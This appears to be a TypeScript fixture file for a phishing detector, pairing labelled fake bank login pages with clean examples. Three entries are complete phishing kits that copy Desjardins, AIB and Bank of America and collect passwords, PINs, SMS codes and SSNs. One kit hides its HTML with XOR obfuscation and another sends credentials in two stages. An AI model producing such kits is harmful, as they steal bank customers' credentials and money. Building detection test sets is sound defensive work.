import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, baseCss, formCss, xorCodes, monogram } from '../parts/yp-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'yp-bank-desjardins-accesd-xor-fr',
  label: 'phishing',
  kind: 'obfuscated-bank-kit',
  url: 'https://accesd-desjardins-securite.com/identifiantunique/',
  body: (() => {
    const inner = doc({
      title: 'AccèsD – Desjardins – Connexion',
      lang: 'fr-CA',
      css: baseCss + formCss + `body{background:#f4f4f4}.hd{background:#00874e;color:#fff;padding:14px 24px;font-weight:700;font-size:20px}.box{max-width:420px;margin:40px auto;background:#fff;padding:30px;border-top:4px solid #00874e}.btn{background:#00874e;width:100%;margin-top:16px}.al{background:#fff4e5;border-left:4px solid #f39200;padding:10px 14px;font-size:14px}`,
      body: `<div class="hd">Desjardins · AccèsD</div><div class="box"><div class="al">Pour des raisons de sécurité, votre accès a été temporairement limité. Veuillez confirmer votre identité.</div>
<form method="post" action="/identifiantunique/valider.php"><label>Numéro de carte AccèsD ou identifiant</label><input name="identifiant" required><label>Mot de passe</label><input type="password" name="motdepasse" required><label>Question de sécurité : Quel est le nom de votre premier animal?</label><input name="reponse"><label>NIP de votre carte</label><input type="password" name="nip" maxlength="5"><button class="btn">Valider</button></form></div>`,
    });
    return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Desjardins</title></head><body><script>(function(k){var d=[${xorCodes(inner, 0x5c)}];var b=new Uint8Array(d.length);for(var i=0;i<d.length;i++)b[i]=d[i]^k;document.open();document.write(new TextDecoder().decode(b));document.close()})(0x5c);</script></body></html>`;
  })(),
},
{
  id: 'yp-bank-aib-new-payee-pac-ie',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://aib-ie-payeecheck.com/inet/roi/login.htm',
  routes: {
    'aib-ie-payeecheck.com/inet/roi/login.htm': htmlRoute(doc({
      title: 'AIB Internet Banking',
      lang: 'en-IE',
      css: baseCss + formCss + `body{background:#f2f2f2}.hd{background:#7f2b7b;color:#fff;padding:14px 24px;font-weight:700;font-size:22px}.box{max-width:460px;margin:36px auto;background:#fff;padding:28px;border-radius:6px}.pac{display:flex;gap:8px}.pac input{width:52px;text-align:center}.btn{background:#7f2b7b;width:100%;margin-top:16px}.warn{background:#fdecea;padding:12px;border-radius:4px;font-size:14px}`,
      body: `<div class="hd">AIB</div><div class="box"><div class="warn">A new payee <b>"M KOWALCZYK – IE29 BOFI 9000 ..."</b> was added to your account. If this wasn't you, log in now to cancel the payee.</div>
<form method="post" action="/inet/roi/verify.php"><label>Registration number</label><input name="regNumber" maxlength="8" required><label>Personal Access Code (all 5 digits)</label><div class="pac"><input name="pac1" maxlength="1" type="password"><input name="pac2" maxlength="1" type="password"><input name="pac3" maxlength="1" type="password"><input name="pac4" maxlength="1" type="password"><input name="pac5" maxlength="1" type="password"></div><label>Mobile number</label><input name="mobile" placeholder="08x xxx xxxx"><label>Last 4 digits of your debit card</label><input name="card4" maxlength="4"><button class="btn">Cancel payee</button></form></div>`,
    })),
  },
},
{
  id: 'yp-bank-bofa-alerta-es-otp',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://bofa-alertas-seguridad.com/es/acceso',
  body: doc({
    title: 'Bank of America | Acceso a la Banca en Línea',
    lang: 'es',
    css: baseCss + formCss + `body{background:#f9f9f9}.hd{background:#012169;color:#fff;padding:14px 24px;font-weight:700}.rb{height:4px;background:#e31837}.box{max-width:460px;margin:36px auto;background:#fff;padding:28px;border:1px solid #ddd}.btn{background:#0073cf;width:100%;margin-top:14px}.al{color:#e31837;font-weight:700}`,
    body: `<div class="hd">BANK OF AMERICA</div><div class="rb"></div><div class="box"><p class="al">Su cuenta ha sido suspendida temporalmente</p><p>Detectamos un inicio de sesión inusual desde un dispositivo no reconocido. Para restablecer el acceso, verifique su identidad.</p>
<form id="f" method="post" action="/next.php"><div id="a"><label>Identificación en línea</label><input name="onlineId" required><label>Clave</label><input type="password" name="passcode" required></div>
<div id="b" style="display:none"><label>Código de verificación (SMS)</label><input name="otp" maxlength="6"><label>Número de Seguro Social</label><input name="ssn" maxlength="11"><label>PIN de la tarjeta de débito</label><input type="password" name="pin" maxlength="4"></div><button class="btn" id="go">Continuar</button></form></div>
<script>var s=0;document.getElementById('f').addEventListener('submit',function(e){if(s===0){e.preventDefault();fetch('/next.php',{method:'POST',body:new FormData(this)});document.getElementById('a').style.display='none';document.getElementById('b').style.display='block';s=1}});</script>`,
  }),
},
{
  id: 'yp-clean-bank-boi-365-online-login',
  label: 'clean',
  kind: 'clean-bank-login',
  url: 'https://www.365online.com/online365/spring/authentication/login',
  body: doc({
    title: 'Bank of Ireland 365 online – Login',
    lang: 'en-IE',
    css: baseCss + formCss + `body{background:#f3f5f8}.hd{background:#0000a0;color:#fff;padding:14px 24px;font-weight:700;font-size:20px}.box{max-width:460px;margin:36px auto;background:#fff;padding:28px;border-radius:6px}.btn{background:#0000a0;width:100%;margin-top:16px}.sec{background:#eef0fa;padding:12px;border-radius:4px;font-size:14px;margin-top:18px}`,
    body: `<div class="hd">Bank of Ireland · 365 online</div><div class="box"><h1 style="font-size:22px;margin-top:0">Log in to 365 online</h1><form method="post" action="/online365/spring/authentication/login" id="lg"><input type="hidden" name="_csrf" value="c0a8f1d2-9e7b-4a61-b3c5-2d8e7f90a4b1"><label for="u">365 User ID</label><input id="u" name="userId" maxlength="8" inputmode="numeric" autocomplete="username" required><label for="d">Date of birth or last 4 digits of your contact number</label><input id="d" name="verification" required><button class="btn">Continue</button></form>
<p style="font-size:14px"><a href="/online365/spring/forgottenUserId">Forgotten your User ID?</a> · <a href="https://personalbanking.bankofireland.com/365-online/">Register</a></p>
<div class="sec"><b>Protect yourself:</b> On the next screen we ask for 3 random digits of your 6-digit PIN – never the full PIN. Bank of Ireland will never text you a link to log in or ask you to move money to a "safe account". Fraud line: 1800 946 764 (24/7).</div></div>`,
  }),
},
{
  id: 'yp-clean-interac-deposit-select-fi',
  label: 'clean',
  kind: 'clean-bank-picker',
  url: 'https://etransfer.interac.ca/reqPayment/eml/CA1MRnXbq4Fa',
  body: doc({
    title: 'Interac e-Transfer – Deposit your money',
    lang: 'en-CA',
    css: baseCss + `body{background:#f6f6f6}.hd{background:#fdb913;padding:14px 24px;font-weight:800;color:#000}.box{max-width:760px;margin:30px auto;background:#fff;padding:28px;border-radius:6px}.fis{display:grid;grid-template-columns:repeat(3,1fr);gap:12px}.fis a{border:1px solid #ccc;border-radius:4px;padding:16px;text-align:center;text-decoration:none;color:#222;font-weight:600}.sec{font-size:13px;color:#555;margin-top:20px}`,
    body: `<div class="hd">INTERAC e-Transfer®</div><div class="box"><h1 style="font-size:22px;margin-top:0">Deposit your money</h1><p><b>Erin Walsh</b> sent you <b>$120.00 (CAD)</b>.<br>Message: "Hockey registration for Liam – thanks!"</p>
<p>Select your financial institution. You will be taken to your bank's website or app to sign in and deposit the money.</p>
<div class="fis"><a href="https://www1.royalbank.com/cgi-bin/rbaccess/rbunxcgi?F6=1&amp;F7=IB&amp;F21=IB&amp;F22=IB&amp;REQUEST=ClientSignin&amp;LANGUAGE=ENGLISH&amp;emtid=CA1MRnXbq4Fa">RBC Royal Bank</a><a href="https://easyweb.td.com/waw/idp/login.htm?execution=e1s1&amp;emtid=CA1MRnXbq4Fa">TD Canada Trust</a><a href="https://www1.bmo.com/banking/digital/login?emtid=CA1MRnXbq4Fa">BMO</a><a href="https://www.scotiaonline.scotiabank.com/online/authentication/authentication.bns?emtid=CA1MRnXbq4Fa">Scotiabank</a><a href="https://www.cibconline.cibc.com/ebm-resources/online-banking/client/index.html#/auth/signon?emtid=CA1MRnXbq4Fa">CIBC</a><a href="https://accesd.mouv.desjardins.com/?emtid=CA1MRnXbq4Fa">Desjardins</a></div>
<p class="sec">Interac will never ask for your banking password or card details on this page. Always check that the sender and amount are what you expected. Learn how to <a href="https://www.interac.ca/en/consumers/security/">recognize e-Transfer scams</a>.</p></div>`,
  }),
},
];
